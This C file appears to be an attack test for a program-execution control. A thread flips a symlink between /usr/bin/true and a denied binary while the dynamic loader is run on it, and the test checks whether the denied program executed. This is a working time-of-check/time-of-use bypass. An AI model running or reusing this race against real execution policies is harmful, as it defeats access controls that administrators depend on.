/* A loader opens the program by its name after that was judged: a link leads elsewhere by then. */
#include "attack.h"
static const char *loaders[] = {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"};
static char loader[4096], bad[4096];
static int out[2];
static void *flip(void *unused) {
    for (int even = 0;; even = !even) {
        if (symlink(even ? "/usr/bin/true" : bad, "src/next")) continue;
        rename("src/next", "src/link");
    }
    return unused;
}
static int try_once(void) {
    char *words[] = {loader, "src/link", 0}, data[64] = "";
    pid_t child = vfork();
    if (!child) {
        dup2(out[1], 1);
        execve(loader, words, environ);
        _exit(0);
    }
    waitpid(child, 0, 0);
    return read(out[0], data, sizeof data) > 0 && strstr(data, "denied program");
}
int main(int argc, char **argv) {
    pthread_t thread;
    (void)argc;
    for (int each = 0; each < 2; each++)
        if (realpath(loaders[each], loader)) break;
    if (!realpath("bin/xd-dynamic", bad) || pipe2(out, O_NONBLOCK | O_CLOEXEC)) return 1;
    pthread_create(&thread, 0, flip, 0);
    return race(argv, try_once);
}
